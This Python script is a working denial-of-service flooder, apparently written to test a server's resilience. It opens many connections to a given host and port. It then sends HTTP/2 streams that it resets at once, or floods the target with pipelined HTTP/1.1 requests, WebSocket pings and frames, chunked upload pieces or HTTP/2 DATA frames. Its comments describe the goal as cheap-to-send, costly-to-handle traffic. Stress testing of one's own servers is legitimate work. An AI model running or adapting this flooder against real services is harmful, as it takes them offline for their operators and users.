"""Clients that flood over HTTP/2, in a process of their own: python flood.py HOST PORT OPTIONS-AS-JSON.

Each of `connections` connects, sends `streams` streams that it resets, and connects again when it has sent all or was cut off,
for `seconds`. Options: path; streams; connections; seconds; gap: so many HEADERS before their resets (1: each at once); body:
the requests promise one; stay: waits to be cut off when all is sent; form: one of FORMS, which is sent on and on instead of
streams. Prints how many connections it made as JSON."""

import json
import selectors
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
END_STREAM, END_HEADERS = 1, 4
CANCEL = struct.pack(">I", 8)


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def script(path, streams, gap, body):
    """What one connection sends."""
    method = b"\x83" if body else b"\x82"
    head = method + b"\x86\x04" + bytes([len(path)]) + path.encode() + b"\x01\x09localhost"
    flags = END_HEADERS if body else END_HEADERS | END_STREAM
    parts = [PREFACE, frame(SETTINGS, 0, 0, b"")]
    for first in range(0, streams, gap):
        ids = [2 * n + 1 for n in range(first, min(first + gap, streams))]
        parts += [frame(HEADERS, flags, one, head) for one in ids]
        parts += [frame(RST_STREAM, 0, one, CANCEL) for one in ids]
    return b"".join(parts)


UPGRADE = "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="
UPLOAD = "Content-Type: application/x-ndjson\r\nTransfer-Encoding: chunked"


def http1(line, more=""):
    return f"{line} HTTP/1.1\r\nHost: localhost\r\n{more and more + chr(13) + chr(10)}\r\n".encode()


# What is small for its sender and many pieces of work for its reader: (what a connection begins with, what it goes on with).
FORMS = {
    "requests": (b"", http1("GET /nothing") * 2000),
    "pings": (http1("GET /chat", UPGRADE), b"\x89\x80\0\0\0\0" * 11000),
    "frames": (http1("GET /chat", UPGRADE), b"\x81\x82\0\0\0\0{}" * 8000),
    "chunks": (http1("POST /upload/flood", UPLOAD), b"3\r\n{}\n\r\n" * 8000),
    "data": (
        PREFACE + frame(SETTINGS, 0, 0, b"") + frame(HEADERS, END_HEADERS, 1, b"\x83\x86\x04\x05/echo\x01\x09localhost"),
        frame(0, 0, 1, b" ") * 6500,
    ),
}


def flood(address, connections, seconds, path="/", streams=0, gap=1, body=False, stay=False, form=None):
    data, again = FORMS[form] if form else (script(path, streams, gap, body), b"")
    selector, sent, made = selectors.DefaultSelector(), {}, 0

    def connect():
        nonlocal made
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex(address)
        sent[s] = 0
        made += 1
        selector.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE)

    def leave(s):
        selector.unregister(s)
        s.close()
        del sent[s]

    def work(s, events):
        """Whether the connection is of use still."""
        try:
            if events & selectors.EVENT_WRITE:
                at = sent[s] - len(data)
                sent[s] += s.send(data[sent[s] : sent[s] + 65536] if at < 0 else again[at % len(again) :])
                if sent[s] == len(data) and not again:
                    selector.modify(s, selectors.EVENT_READ)
                    return stay
            return not events & selectors.EVENT_READ or s.recv(65536) != b""
        except BlockingIOError:
            return True
        except OSError:
            return False

    for _ in range(connections):
        connect()
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for key, events in selector.select(0.1):
            if not work(key.fileobj, events):
                leave(key.fileobj)
                connect()
    for s in list(sent):
        leave(s)
    return made


if __name__ == "__main__":
    made = flood((sys.argv[1], int(sys.argv[2])), **json.loads(sys.argv[3]))
    print(json.dumps({"connections": made}))
